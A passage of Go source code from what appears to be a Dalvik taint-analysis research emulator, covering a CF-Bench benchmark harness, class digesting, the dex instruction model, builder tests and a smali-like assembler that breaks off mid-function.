	opsJavaFLOPS   = 120000
	opsJavaMem     = 200000
)

// Workloads returns the thirteen measured rows in Fig. 10 order (the three
// score rows are computed from these).
func Workloads() []Workload {
	return []Workload{
		{Name: "Native MIPS", Ops: opsNativeMIPS, install: installNativeWorkload("mips", opsNativeMIPS), entryClass: "Lcom/cfbench/Native;"},
		{Name: "Java MIPS", Java: true, Ops: opsJavaMIPS, install: installJavaMIPS, entryClass: "Lcom/cfbench/Java;"},
		{Name: "Native MSFLOPS", Ops: opsNativeFLOPS, install: installNativeWorkload("msflops", opsNativeFLOPS), entryClass: "Lcom/cfbench/Native;"},
		{Name: "Java MSFLOPS", Java: true, Ops: opsJavaFLOPS, install: installJavaMSFLOPS, entryClass: "Lcom/cfbench/Java;"},
		{Name: "Native MDFLOPS", Ops: opsNativeFLOPS, install: installNativeWorkload("mdflops", opsNativeFLOPS), entryClass: "Lcom/cfbench/Native;"},
		{Name: "Java MDFLOPS", Java: true, Ops: opsJavaFLOPS, install: installJavaMDFLOPS, entryClass: "Lcom/cfbench/Java;"},
		{Name: "Native MALLOCS", Ops: opsMallocs, install: installNativeWorkload("mallocs", opsMallocs), entryClass: "Lcom/cfbench/Native;"},
		{Name: "Native Memory Read", Ops: opsNativeMem, install: installNativeWorkload("memread", opsNativeMem), entryClass: "Lcom/cfbench/Native;"},
		{Name: "Java Memory Read", Java: true, Ops: opsJavaMem, install: installJavaMemRead, entryClass: "Lcom/cfbench/Java;"},
		{Name: "Native Memory Write", Ops: opsNativeMem, install: installNativeWorkload("memwrite", opsNativeMem), entryClass: "Lcom/cfbench/Native;"},
		{Name: "Java Memory Write", Java: true, Ops: opsJavaMem, install: installJavaMemWrite, entryClass: "Lcom/cfbench/Java;"},
		{Name: "Native Disk Read", Ops: opsDisk, install: installNativeWorkload("diskread", opsDisk), entryClass: "Lcom/cfbench/Native;"},
		{Name: "Native Disk Write", Ops: opsDisk, install: installNativeWorkload("diskwrite", opsDisk), entryClass: "Lcom/cfbench/Native;"},
	}
}

// NewRunner prepares a workload on a fresh system under the given mode and
// returns a function that executes one full run — the testing.B-friendly
// entry point used by the root bench harness.
func (w Workload) NewRunner(mode core.Mode, scale int) (func() error, error) {
	sys, err := core.NewSystem()
	if err != nil {
		return nil, err
	}
	if err := w.install(sys, scale); err != nil {
		return nil, err
	}
	sys.Kern.FS.WriteFile("/data/cfbench.dat", make([]byte, 1024*(opsDisk/scale)+1024))
	core.NewAnalyzer(sys, mode)
	entry := w.entryClass
	name := w.Name
	return func() error {
		_, _, thrown, err := sys.VM.InvokeByName(entry, "run", nil, nil)
		if err != nil {
			return err
		}
		if thrown != nil {
			return fmt.Errorf("cfbench: %s threw", name)
		}
		return nil
	}, nil
}

// GateStats captures the taint-presence gate's activity during one measured
// run: mode flips and how many translated blocks dispatched onto the bare
// fast path versus the instrumented slow path, plus the DVM translation
// engine's method/frame/bail/deopt counters for the Java rows.
type GateStats struct {
	Flips        uint64 `json:"flips"`
	FastBlocks   uint64 `json:"fastBlocks"`
	SlowBlocks   uint64 `json:"slowBlocks"`
	PinnedBlocks uint64 `json:"pinnedBlocks,omitempty"`

	JavaTransMethods uint64 `json:"javaTransMethods,omitempty"`
	JavaCleanFrames  uint64 `json:"javaCleanFrames,omitempty"`
	JavaTaintFrames  uint64 `json:"javaTaintFrames,omitempty"`
	JavaGateBails    uint64 `json:"javaGateBails,omitempty"`
	JavaDeopts       uint64 `json:"javaDeopts,omitempty"`
	JavaPinnedFrames uint64 `json:"javaPinnedFrames,omitempty"`
}

// Measure runs one workload under one mode, returning the score (nominal
// ops per second, like CF-Bench's point scale) and the gate activity.
func Measure(w Workload, mode core.Mode, scale int) (float64, GateStats, error) {
	return measure(w, mode, scale, true, false)
}

// MeasureNoGate is Measure with the zero-taint fast path disabled — the
// always-instrumented PR 1 configuration, kept to quantify the gate's win.
func MeasureNoGate(w Workload, mode core.Mode, scale int) (float64, GateStats, error) {
	return measure(w, mode, scale, false, false)
}

// MeasureNoJavaTranslate is Measure with the DVM's method-granular
// translation engine disabled, forcing the per-instruction interpreter — the
// Java-row ablation quantifying the translation win (cmd/cfbench
// -java-ablation).
func MeasureNoJavaTranslate(w Workload, mode core.Mode, scale int) (float64, GateStats, error) {
	return measure(w, mode, scale, true, true)
}

func measure(w Workload, mode core.Mode, scale int, gate, noTranslate bool) (float64, GateStats, error) {
	sys, err := core.NewSystem()
	if err != nil {
		return 0, GateStats{}, err
	}
	if err := w.install(sys, scale); err != nil {
		return 0, GateStats{}, err
	}
	// The disk-read workload needs the data file to exist.
	sys.Kern.FS.WriteFile("/data/cfbench.dat", make([]byte, 1024*(opsDisk/scale)+1024))
	if gate {
		core.NewAnalyzer(sys, mode)
	} else {
		core.NewAnalyzerNoGate(sys, mode)
	}
	sys.VM.NoJavaTranslate = noTranslate
	start := time.Now()
	if _, _, thrown, err := sys.VM.InvokeByName(w.entryClass, "run", nil, nil); err != nil {
		return 0, GateStats{}, err
	} else if thrown != nil {
		return 0, GateStats{}, fmt.Errorf("cfbench: %s threw", w.Name)
	}
	elapsed := time.Since(start)
	if elapsed <= 0 {
		elapsed = time.Nanosecond
	}
	gs := GateStats{
		Flips:        sys.CPU.GateFlips,
		FastBlocks:   sys.CPU.GateFastBlocks,
		SlowBlocks:   sys.CPU.GateSlowBlocks,
		PinnedBlocks: sys.CPU.GatePinnedBlocks,

		JavaTransMethods: sys.VM.JavaTransMethods,
		JavaCleanFrames:  sys.VM.JavaCleanFrames,
		JavaTaintFrames:  sys.VM.JavaTaintFrames,
		JavaGateBails:    sys.VM.JavaGateBails,
		JavaDeopts:       sys.VM.JavaDeopts,
		JavaPinnedFrames: sys.VM.JavaPinnedFrames,
	}
	return float64(w.Ops/scale) / elapsed.Seconds(), gs, nil
}
