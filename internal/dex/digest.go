package dex

import (
	"encoding/binary"
	"fmt"
	"hash/fnv"
	"io"
)

// digestWriter streams length-free but unambiguous encodings of the class
// structure into a hash: strings are NUL-terminated, integers fixed-width.
type digestWriter struct {
	h   io.Writer
	buf [8]byte
}

func (d *digestWriter) str(s string) {
	io.WriteString(d.h, s)
	d.h.Write([]byte{0})
}

func (d *digestWriter) i64(v int64) {
	binary.LittleEndian.PutUint64(d.buf[:], uint64(v))
	d.h.Write(d.buf[:])
}

// WriteDigest streams the class's full structural content — name, hierarchy,
// field layout, and every method's signature, flags, bytecode, and try
// table — into h. Two classes with equal digests are structurally identical
// as far as loading, validation, static analysis, and execution care.
//
// Native binding addresses (Method.NativeAddr) are deliberately included:
// they capture which library label each native method resolves to, which
// changes execution even when the bytecode does not.
func (c *Class) WriteDigest(h io.Writer) {
	d := &digestWriter{h: h}
	d.str(c.Name)
	d.str(c.Super)
	for _, f := range c.InstanceFields {
		d.str(f.Name)
		d.i64(int64(f.Index))
	}
	for _, f := range c.StaticFields {
		d.str(f.Name)
		d.i64(int64(f.Index))
	}
	for _, m := range c.Methods {
		d.str(m.Name)
		d.str(m.Shorty)
		d.i64(int64(m.Flags))
		d.i64(int64(m.NumRegs))
		d.i64(int64(m.NativeAddr))
		for i := range m.Insns {
			in := &m.Insns[i]
			d.i64(int64(in.Op))
			d.i64(int64(in.A))
			d.i64(int64(in.B))
			d.i64(int64(in.C))
			d.i64(in.Lit)
			d.str(in.Str)
			d.i64(int64(in.Cmp))
			d.i64(int64(in.Ar))
			d.i64(int64(in.Tgt))
			for _, a := range in.Args {
				d.i64(int64(a))
			}
			d.str(in.ClassName)
			d.str(in.MemberName)
			d.str(in.Shorty)
		}
		for _, t := range m.Tries {
			d.i64(int64(t.Start))
			d.i64(int64(t.End))
			d.i64(int64(t.Handler))
			d.str(t.Type)
		}
	}
}

// Digest returns the class's structural content digest in the fixed-width
// hex form cache keys use.
func (c *Class) Digest() string {
	h := fnv.New64a()
	c.WriteDigest(h)
	return fmt.Sprintf("%016x", h.Sum64())
}
