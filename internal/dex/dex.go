// Package dex models Dalvik executables: classes, fields, methods, and a
// register-based instruction set covering the subset of Dalvik semantics the
// paper's evaluation exercises (arithmetic including float/double, object and
// array access, field access, invokes, branches, exceptions, and the
// System.loadLibrary idiom the Section III corpus analysis scans for).
//
// Instructions are represented structurally (decoded form) rather than as
// binary dex bytes: taint semantics — the part of Dalvik that matters to
// TaintDroid and NDroid — attach to the decoded operations.
package dex

import "fmt"

// Code enumerates Dalvik-style operations.
type Code uint8

// Operations.
const (
	Nop            Code = iota + 1
	Const               // vA := Lit (32-bit)
	ConstWide           // vA,vA+1 := Lit (64-bit)
	ConstString         // vA := new String(Str)
	Move                // vA := vB
	MoveWide            // vA,vA+1 := vB,vB+1
	MoveResult          // vA := result
	MoveResultWide      // vA,vA+1 := result
	MoveException       // vA := pending exception
	ReturnVoid          //
	Return              // return vA
	ReturnWide          // return vA,vA+1
	NewInstance         // vA := new Class
	NewArray            // vA := new elem[vB]; Str = element kind ("I","B","L",...)
	ArrayLength         // vA := len(vB)
	Aget                // vA := vB[vC] (32-bit element)
	AgetWide            // vA,vA+1 := vB[vC]
	Aput                // vB[vC] := vA
	AputWide            // vB[vC] := vA,vA+1
	Iget                // vA := vB.Field
	IgetWide            //
	Iput                // vB.Field := vA
	IputWide            //
	Sget                // vA := Class.Field
	SgetWide            //
	Sput                // Class.Field := vA
	SputWide            //
	InvokeVirtual       // call Method with Args (Args[0] = this)
	InvokeDirect        // constructors / private
	InvokeStatic        //
	Goto                // jump to Target
	IfTest              // if vA <Cmp> vB goto Target
	IfTestZ             // if vA <Cmp> 0 goto Target
	BinOp               // vA := vB <Arith> vC (int)
	BinOpLit            // vA := vB <Arith> Lit (int)
	BinOpWide           // vA := vB <Arith> vC (long, reg pairs)
	BinOpFloat          // vA := vB <Arith> vC (float)
	BinOpDouble         // vA := vB <Arith> vC (double, reg pairs)
	IntToFloat          // vA := float(vB)
	FloatToInt          // vA := int(vB)
	IntToDouble         // vA,vA+1 := double(vB)
	DoubleToInt         // vA := int(vB,vB+1)
	IntToLong           // vA,vA+1 := sext(vB)
	LongToInt           // vA := trunc(vB,vB+1)
	CmpFloat            // vA := sign(vB - vC) as int
	CmpDouble           // vA := sign((vB,vB+1) - (vC,vC+1))
	CmpLong             // vA := sign((vB,vB+1) - (vC,vC+1)) for longs
	Throw               // throw vA
)

var codeNames = map[Code]string{
	Nop: "nop", Const: "const", ConstWide: "const-wide", ConstString: "const-string",
	Move: "move", MoveWide: "move-wide", MoveResult: "move-result",
	MoveResultWide: "move-result-wide", MoveException: "move-exception",
	ReturnVoid: "return-void", Return: "return", ReturnWide: "return-wide",
	NewInstance: "new-instance", NewArray: "new-array", ArrayLength: "array-length",
	Aget: "aget", AgetWide: "aget-wide", Aput: "aput", AputWide: "aput-wide",
	Iget: "iget", IgetWide: "iget-wide", Iput: "iput", IputWide: "iput-wide",
	Sget: "sget", SgetWide: "sget-wide", Sput: "sput", SputWide: "sput-wide",
	InvokeVirtual: "invoke-virtual", InvokeDirect: "invoke-direct", InvokeStatic: "invoke-static",
	Goto: "goto", IfTest: "if-test", IfTestZ: "if-testz",
	BinOp: "binop", BinOpLit: "binop/lit", BinOpWide: "binop-wide",
	BinOpFloat: "binop-float", BinOpDouble: "binop-double",
	IntToFloat: "int-to-float", FloatToInt: "float-to-int",
	IntToDouble: "int-to-double", DoubleToInt: "double-to-int",
	IntToLong: "int-to-long", LongToInt: "long-to-int",
	CmpFloat: "cmpl-float", CmpDouble: "cmpl-double", CmpLong: "cmp-long",
	Throw: "throw",
}

// String returns the smali-style mnemonic.
func (c Code) String() string {
	if s, ok := codeNames[c]; ok {
		return s
	}
	return fmt.Sprintf("Code(%d)", uint8(c))
}

// Arith selects the operation for BinOp-family instructions.
type Arith uint8

// Arithmetic operators.
const (
	Add Arith = iota + 1
	Sub
	Mul
	Div
	Rem
	And
	Or
	Xor
	Shl
	Shr
	Ushr
)

var arithNames = [...]string{"", "add", "sub", "mul", "div", "rem", "and", "or", "xor", "shl", "shr", "ushr"}

// String returns the operator name.
func (a Arith) String() string {
	if int(a) < len(arithNames) {
		return arithNames[a]
	}
	return fmt.Sprintf("Arith(%d)", uint8(a))
}

// Cmp selects the comparison for IfTest/IfTestZ.
type Cmp uint8

// Comparisons.
const (
	Eq Cmp = iota + 1
	Ne
	Lt
	Ge
	Gt
	Le
)

var cmpNames = [...]string{"", "eq", "ne", "lt", "ge", "gt", "le"}

// String returns the comparison suffix.
func (c Cmp) String() string {
	if int(c) < len(cmpNames) {
		return cmpNames[c]
	}
	return fmt.Sprintf("Cmp(%d)", uint8(c))
}

// Insn is one decoded Dalvik instruction.
type Insn struct {
	Op   Code
	A    int // usually the destination register
	B    int
	C    int
	Lit  int64
	Str  string // string literal, type descriptor, or element kind
	Cmp  Cmp
	Ar   Arith
	Tgt  int // branch target (instruction index)
	Args []int

	// Method/field references are textual and resolved by the VM on first
	// execution; the resolved pointer is cached here.
	ClassName  string
	MemberName string
	Shorty     string

	ResolvedMethod *Method
	ResolvedField  *Field
}

// AccessFlags for methods.
const (
	AccPublic = 0x1
	AccStatic = 0x8
	AccNative = 0x100
)

// Field describes an instance or static field.
type Field struct {
	Class  *Class
	Name   string
	Wide   bool
	Static bool
	Index  int // slot in the instance/static field table
}

// TryEntry is one try/catch range (instruction indices, end exclusive).
type TryEntry struct {
	Start, End int
	Handler    int
	Type       string // exception class name; "" catches everything
}

// Method is a Dalvik method: interpreted bytecode, a JNI-bridged native
// method, or a framework builtin implemented by the host.
type Method struct {
	Class  *Class
	Name   string
	Shorty string // return type char followed by argument type chars
	Flags  uint32

	// Interpreted methods:
	NumRegs int // total registers (locals + ins)
	Insns   []Insn
	Tries   []TryEntry

	// JNI native methods:
	NativeAddr uint32

	// Framework builtins (host Go):
	Builtin interface{} // set by the VM layer; kept opaque here

	// Compiled holds the VM's translated form of the instruction stream
	// (a *compiledMethod on the dvm side); kept opaque here like Builtin.
	// The slot is a cache: the VM validates ownership and its translation
	// epoch before trusting it, so a stale value is only ever retranslated,
	// never executed.
	Compiled interface{}

	InsnCount uint64 // executed-instruction counter (profiling)
}

// InvalidateCompiled drops the translated form. Anything that mutates the
// method after first execution (Insns, Tries, NumRegs, flags) must call this
// so the next invocation retranslates; epoch bumps on the VM side handle
// environment changes (hooks, step functions) without touching each method.
func (m *Method) InvalidateCompiled() { m.Compiled = nil }

// IsStatic reports whether the method is static.
func (m *Method) IsStatic() bool { return m.Flags&AccStatic != 0 }

// IsNative reports whether the method is JNI-native.
func (m *Method) IsNative() bool { return m.Flags&AccNative != 0 }

// InsSize returns the number of argument registers (wide args count twice;
// non-static methods include `this`).
func (m *Method) InsSize() int {
	n := 0
	if !m.IsStatic() {
		n++
	}
	for _, ch := range m.Shorty[1:] {
		n++
		if ch == 'J' || ch == 'D' {
			n++
		}
	}
	return n
}

// RetWide reports whether the return value is 64-bit.
func (m *Method) RetWide() bool {
	return m.Shorty[0] == 'J' || m.Shorty[0] == 'D'
}

// FullName renders "Lcom/foo/Bar;.baz".
func (m *Method) FullName() string {
	return m.Class.Name + "." + m.Name
}

// Class is a Dalvik class.
type Class struct {
	Name  string // descriptor form: "Lcom/ndroid/demos/Demos;"
	Super string

	InstanceFields []*Field
	StaticFields   []*Field
	Methods        []*Method

	// StaticData / StaticTaints are the static-field slots; TaintDroid keeps
	// taint tags interleaved with static variables (§II-B "Taint Storage").
	StaticData   []uint32
	StaticTaints []uint32 // stored as raw tag words
}

// Method looks up a method by name (first match).
func (c *Class) Method(name string) (*Method, bool) {
	for _, m := range c.Methods {
		if m.Name == name {
			return m, true
		}
	}
	return nil, false
}

// FieldByName looks up an instance or static field.
func (c *Class) FieldByName(name string) (*Field, bool) {
	for _, f := range c.InstanceFields {
		if f.Name == name {
			return f, true
		}
	}
	for _, f := range c.StaticFields {
		if f.Name == name {
			return f, true
		}
	}
	return nil, false
}

// InstanceSlots returns how many 32-bit slots instances of c need.
func (c *Class) InstanceSlots() int {
	n := 0
	for _, f := range c.InstanceFields {
		n++
		if f.Wide {
			n++
		}
	}
	return n
}

// ShortyWidth returns the register width (1 or 2) of a shorty type char.
func ShortyWidth(ch byte) int {
	if ch == 'J' || ch == 'D' {
		return 2
	}
	return 1
}
