package dex

import "testing"

func TestShortyAccounting(t *testing.T) {
	cases := []struct {
		shorty  string
		static  bool
		ins     int
		retWide bool
	}{
		{"V", true, 0, false},
		{"V", false, 1, false},
		{"IL", true, 1, false},
		{"VLL", true, 2, false},
		{"VLL", false, 3, false},
		{"DD", true, 2, true},
		{"VID", true, 3, false},
		{"JI", false, 2, true},
	}
	for _, c := range cases {
		flags := uint32(0)
		if c.static {
			flags = AccStatic
		}
		m := &Method{Name: "m", Shorty: c.shorty, Flags: flags}
		if got := m.InsSize(); got != c.ins {
			t.Errorf("InsSize(%q static=%v) = %d, want %d", c.shorty, c.static, got, c.ins)
		}
		if got := m.RetWide(); got != c.retWide {
			t.Errorf("RetWide(%q) = %v", c.shorty, got)
		}
	}
}

func TestBuilderLabelsResolve(t *testing.T) {
	cb := NewClass("Lcom/t/C;")
	m := cb.Method("m", "II", AccStatic, 1).
		IfZ(1, Eq, "zero").
		Const(0, 1).
		Goto("end").
		Label("zero").
		Const(0, 2).
		Label("end").
		Return(0).
		Done()
	if m.Insns[0].Tgt != 3 {
		t.Errorf("IfZ target = %d, want 3", m.Insns[0].Tgt)
	}
	if m.Insns[2].Tgt != 4 {
		t.Errorf("Goto target = %d, want 4", m.Insns[2].Tgt)
	}
}

func TestBuilderUndefinedLabelPanics(t *testing.T) {
	defer func() {
		if recover() == nil {
			t.Error("undefined label must panic at Done")
		}
	}()
	NewClass("Lcom/t/P;").Method("m", "V", AccStatic, 0).
		Goto("nowhere").
		Done()
}

func TestBuilderTryCatch(t *testing.T) {
	m := NewClass("Lcom/t/T;").Method("m", "V", AccStatic, 1).
		Label("s").
		Nop().
		Label("e").
		ReturnVoid().
		Label("h").
		MoveException(0).
		ReturnVoid().
		Try("s", "e", "h", "Ljava/lang/Exception;").
		Done()
	if len(m.Tries) != 1 {
		t.Fatal("try entry missing")
	}
	tr := m.Tries[0]
	if tr.Start != 0 || tr.End != 1 || tr.Handler != 2 {
		t.Errorf("try = %+v", tr)
	}
	if tr.Type != "Ljava/lang/Exception;" {
		t.Errorf("type = %q", tr.Type)
	}
}

func TestFieldIndices(t *testing.T) {
	cb := NewClass("Lcom/t/F;")
	cb.InstanceField("a", false)
	cb.InstanceField("b", true) // wide
	cb.InstanceField("c", false)
	cb.StaticField("s1", false)
	cb.StaticField("s2", true)
	cls := cb.Build()

	a, _ := cls.FieldByName("a")
	b, _ := cls.FieldByName("b")
	c, _ := cls.FieldByName("c")
	if a.Index != 0 || b.Index != 1 || c.Index != 3 {
		t.Errorf("instance indices: a=%d b=%d c=%d", a.Index, b.Index, c.Index)
	}
	if cls.InstanceSlots() != 4 {
		t.Errorf("InstanceSlots = %d, want 4", cls.InstanceSlots())
	}
	s2, _ := cls.FieldByName("s2")
	if s2.Index != 1 || !s2.Static {
		t.Errorf("s2 = %+v", s2)
	}
	if len(cls.StaticData) != 3 {
		t.Errorf("static data slots = %d, want 3", len(cls.StaticData))
	}
}

func TestArgRegLayout(t *testing.T) {
	cb := NewClass("Lcom/t/A;")
	mb := cb.Method("m", "VIL", AccStatic, 3)
	// 3 locals + 2 ins: args at v3, v4.
	if mb.ArgReg(0) != 3 || mb.ArgReg(1) != 4 {
		t.Errorf("arg regs = %d, %d", mb.ArgReg(0), mb.ArgReg(1))
	}
	mb.ReturnVoid().Done()
}

func TestCodeStrings(t *testing.T) {
	if InvokeStatic.String() != "invoke-static" {
		t.Error(InvokeStatic.String())
	}
	if Add.String() != "add" || Ushr.String() != "ushr" {
		t.Error("arith names")
	}
	if Le.String() != "le" {
		t.Error("cmp names")
	}
}
