package dex

import (
	"fmt"
	"strconv"
	"strings"
)

// AssembleClass parses a smali-like class definition into a Class. The
// dialect follows smali closely enough to be read as such:
//
//	.class Lcom/example/Foo;
//	.super Ljava/lang/Object;          ; optional
//	.field name                         ; instance field (32-bit)
//	.field wide stamp                   ; instance field (64-bit pair)
//	.field static counter
//	.method static run()V
//	    .locals 2
//	    const v0, 42
//	    const-string v1, "hello"
//	    invoke-static {v1, v0}, Landroid/net/Network;->send(LL)V
//	    move-result v0
//	    if-eqz v0, :done
//	    goto :loop
//	:done
//	    return-void
//	    .catch Ljava/lang/Exception; :try_start :try_end :handler
//	.end method
//	.method native static work(I)I     ; JNI method, bound later
//
// Method signatures use shorty descriptors: `name(IL)V` declares arguments
// I and L with return V. Comments start with '#' or ';'. Registers are
// v0..vN; wide values name the low register of the pair.
func AssembleClass(source string) (*Class, error) {
	p := &classParser{lines: strings.Split(source, "\n")}
	return p.parse()
}

// MustAssembleClass is AssembleClass for fixture code.
func MustAssembleClass(source string) *Class {
	c, err := AssembleClass(source)
	if err != nil {
		panic(err)
	}
	return c
}

type classParser struct {
	lines []string
	pos   int
	cb    *ClassBuilder
}

func (p *classParser) errf(format string, args ...interface{}) error {
	return fmt.Errorf("dex: line %d: %s", p.pos, fmt.Sprintf(format, args...))
}

func stripDexComment(line string) string {
	inStr := false
	for i := 0; i < len(line); i++ {
		switch line[i] {
		case '"':
			inStr = !inStr
		case '#', ';':
			if !inStr {
				// Class descriptors contain ';' — only treat it as a comment
				// when preceded by whitespace or at line start.
				if line[i] == ';' && i > 0 && line[i-1] != ' ' && line[i-1] != '\t' {
					continue
				}
				return line[:i]
			}
		}
	}
	return line
}

func (p *classParser) next() (string, bool) {
	for p.pos < len(p.lines) {
		line := strings.TrimSpace(stripDexComment(p.lines[p.pos]))
		p.pos++
		if line != "" {
			return line, true
		}
	}
	return "", false
}

func (p *classParser) parse() (*Class, error) {
	line, ok := p.next()
	if !ok || !strings.HasPrefix(line, ".class ") {
		return nil, p.errf("file must start with .class")
	}
	p.cb = NewClass(strings.TrimSpace(strings.TrimPrefix(line, ".class ")))

	for {
		line, ok := p.next()
		if !ok {
			break
		}
		switch {
		case strings.HasPrefix(line, ".super "):
			p.cb.Super(strings.TrimSpace(strings.TrimPrefix(line, ".super ")))
		case strings.HasPrefix(line, ".field "):
			if err := p.parseField(strings.TrimPrefix(line, ".field ")); err != nil {
				return nil, err
			}
		case strings.HasPrefix(line, ".method "):
			if err := p.parseMethod(strings.TrimPrefix(line, ".method ")); err != nil {
				return nil, err
			}
		default:
			return nil, p.errf("unexpected directive %q", line)
		}
	}
	return p.cb.Build(), nil
}

func (p *classParser) parseField(rest string) error {
	fields := strings.Fields(rest)
	static, wide := false, false
	name := ""
	for _, f := range fields {
		switch f {
		case "static":
			static = true
		case "wide":
			wide = true
		default:
			name = f
		}
	}
	if name == "" {
		return p.errf(".field needs a name")
	}
	if static {
		p.cb.StaticField(name, wide)
	} else {
		p.cb.InstanceField(name, wide)
	}
	return nil
}

// parseSig splits "name(IL)V" into name and shorty "VIL".
func parseSig(sig string) (name, shorty string, err error) {
	open := strings.IndexByte(sig, '(')
	closeP := strings.IndexByte(sig, ')')
	if open < 1 || closeP < open || closeP == len(sig)-1 {
		return "", "", fmt.Errorf("bad signature %q (want name(ARGS)RET with shorty chars)", sig)
	}
	name = sig[:open]
	args := sig[open+1 : closeP]
	ret := sig[closeP+1:]
	if len(ret) != 1 {
		return "", "", fmt.Errorf("bad return type %q in %q", ret, sig)
	}
	return name, ret + args, nil
}

func (p *classParser) parseMethod(rest string) error {
	flags := uint32(AccPublic)
	parts := strings.Fields(rest)
	sig := parts[len(parts)-1]
	for _, f := range parts[:len(parts)-1] {
		switch f {
		case "static":
			flags |= AccStatic
		case "native":
			flags |= AccNative
		case "public":
		default:
			return p.errf("unknown method flag %q", f)
		}
	}
	name, shorty, err := parseSig(sig)
	if err != nil {
		return p.errf("%v", err)
	}
	if flags&AccNative != 0 {
		p.cb.NativeMethod(name, shorty, flags&^AccNative, 0)
		return nil
	}

	// Collect body lines until .end method; .locals must come first.
	var body []string
	locals := 0
	sawLocals := false
	for {
		line, ok := p.next()
		if !ok {
			return p.errf(".method %s without .end method", name)
		}
		if line == ".end method" {
			break
		}
		if strings.HasPrefix(line, ".locals ") {
			n, err := strconv.Atoi(strings.TrimSpace(strings.TrimPrefix(line, ".locals ")))
			if err != nil {
				return p.errf("bad .locals: %v", err)
			}
			locals = n
			sawLocals = true
			continue
		}
		body = append(body, line)
	}
	if !sawLocals {
		return p.errf("method %s needs .locals", name)
	}
	mb := p.cb.Method(name, shorty, flags, locals)
	for _, line := range body {
		if err := assembleInsn(mb, line); err != nil {
			return p.errf("in %s: %v", name, err)
		}
	}
	// Done panics on unresolved labels (fine for the fluent builder API);
	// surface it as a parse error here.
	if err := func() (err error) {
		defer func() {
			if r := recover(); r != nil {
				err = p.errf("in %s: %v", name, r)
			}
		}()
		mb.Done()
		return nil
	}(); err != nil {
		return err
	}
	return nil
}

func parseReg(tok string) (int, error) {
	tok = strings.TrimSpace(tok)
	if len(tok) < 2 || tok[0] != 'v' {
		return 0, fmt.Errorf("bad register %q", tok)
	}
	n, err := strconv.Atoi(tok[1:])
	if err != nil {
		return 0, fmt.Errorf("bad register %q", tok)
	}
	return n, nil
}

func parseLit(tok string) (int64, error) {
	tok = strings.TrimSpace(tok)
	return strconv.ParseInt(tok, 0, 64)
}

func parseLabel(tok string) (string, error) {
	tok = strings.TrimSpace(tok)
	if !strings.HasPrefix(tok, ":") {
		return "", fmt.Errorf("bad label %q", tok)
	}
	return tok[1:], nil
}

// parseMemberRef splits "Lcls;->name" or "Lcls;->name(IL)V".
func parseMemberRef(tok string) (class, member, shorty string, err error) {
	tok = strings.TrimSpace(tok)
	idx := strings.Index(tok, "->")
	if idx < 0 {
		return "", "", "", fmt.Errorf("bad member reference %q", tok)
	}
	class = tok[:idx]
	rest := tok[idx+2:]
	if strings.ContainsRune(rest, '(') {
		member, shorty, err = parseSig(rest)
		return class, member, shorty, err
	}
	return class, rest, "", nil
}

var dexArithOps = map[string]Arith{
	"add": Add, "sub": Sub, "mul": Mul, "div": Div, "rem": Rem,
	"and": And, "or": Or, "xor": Xor, "shl": Shl, "shr": Shr, "ushr": Ushr,
}

var dexCmps = map[string]Cmp{
	"eq": Eq, "ne": Ne, "lt": Lt, "ge": Ge, "gt": Gt, "le": Le,
}

// assembleInsn translates one body line onto the MethodBuilder.
func assembleInsn(mb *MethodBuilder, line string) error {
	if strings.HasPrefix(line, ":") {
		mb.Label(line[1:])
		return nil
	}
	if strings.HasPrefix(line, ".catch ") {
		// .catch Ltype; :start :end :handler   (Ltype; may be * for any)
		parts := strings.Fields(strings.TrimPrefix(line, ".catch "))
		if len(parts) != 4 {
			return fmt.Errorf(".catch wants TYPE :start :end :handler")
		}
		typ := parts[0]
		if typ == "*" {
			typ = ""
		}
		s, err1 := parseLabel(parts[1])
		e, err2 := parseLabel(parts[2])
		h, err3 := parseLabel(parts[3])
		if err1 != nil || err2 != nil || err3 != nil {
			return fmt.Errorf("bad .catch labels")
		}
		mb.Try(s, e, h, typ)
		return nil
	}

	sp := strings.IndexAny(line, " \t")
	mnem := line
	rest := ""
	if sp > 0 {
		mnem = line[:sp]
		rest = strings.TrimSpace(line[sp+1:])
	}
	ops := splitDexOperands(rest)

	regs := func(n int) ([]int, error) {
		if len(ops) != n {
			return nil, fmt.Errorf("%s wants %d operands, got %d", mnem, n, len(ops))
		}
		out := make([]int, n)
		for i, o := range ops {
			r, err := parseReg(o)
			if err != nil {
				return nil, err
			}
			out[i] = r
		}
		return out, nil
	}

	switch mnem {
	case "nop":
		mb.Nop()
	case "const":
		r, err := parseReg(ops[0])
		if err != nil {
			return err
		}
		v, err := parseLit(ops[1])
		if err != nil {
			return err
		}
		mb.Const(r, int32(v))
	case "const-wide":
		r, err := parseReg(ops[0])
		if err != nil {
			return err
		}
		v, err := parseLit(ops[1])
		if err != nil {
			return err
		}
		mb.ConstWide(r, v)
	case "const-string":
		r, err := parseReg(ops[0])
		if err != nil {
			return err
		}
		s, err := strconv.Unquote(strings.TrimSpace(ops[1]))
		if err != nil {
			return fmt.Errorf("bad string literal %s", ops[1])
		}
		mb.ConstString(r, s)
	case "move", "move-wide":
		rs, err := regs(2)
		if err != nil {
			return err
		}
		if mnem == "move" {
			mb.Move(rs[0], rs[1])
		} else {
			mb.MoveWide(rs[0], rs[1])
		}
	case "move-result":
		rs, err := regs(1)
		if err != nil {
			return err
		}
		mb.MoveResult(rs[0])
	case "move-result-wide":
		rs, err := regs(1)
		if err != nil {
			return err
		}
		mb.MoveResultWide(rs[0])
	case "move-exception":
		rs, err := regs(1)
		if err != nil {
			return err
		}
		mb.MoveException(rs[0])
	case "return-void":
		mb.ReturnVoid()
	case "return", "return-object":
		rs, err := regs(1)
		if err != nil {
			return err
		}
		mb.Return(rs[0])
	case "return-wide":
		rs, err := regs(1)
		if err != nil {
			return err
		}
		mb.ReturnWide(rs[0])
	case "new-instance":
		r, err := parseReg(ops[0])
		if err != nil {
			return err
		}
		mb.NewInstance(r, strings.TrimSpace(ops[1]))
	case "new-array":
		if len(ops) != 3 {
			return fmt.Errorf("new-array wants vDst, vSize, KIND")
		}
		r, err := parseReg(ops[0])
		if err != nil {
			return err
		}
		size, err := parseReg(ops[1])
		if err != nil {
			return err
		}
		mb.NewArray(r, size, strings.TrimSpace(ops[2]))
	case "array-length":
		rs, err := regs(2)
		if err != nil {
			return err
		}
		mb.ArrayLength(rs[0], rs[1])
	case "aget":
		rs, err := regs(3)
		if err != nil {
			return err
		}
		mb.Aget(rs[0], rs[1], rs[2])
	case "aput":
		rs, err := regs(3)
		if err != nil {
			return err
		}
		mb.Aput(rs[0], rs[1], rs[2])
	case "iget", "iput", "sget", "sput":
		return assembleFieldInsn(mb, mnem, ops)
	case "invoke-virtual", "invoke-static", "invoke-direct":
		return assembleInvoke(mb, mnem, rest)
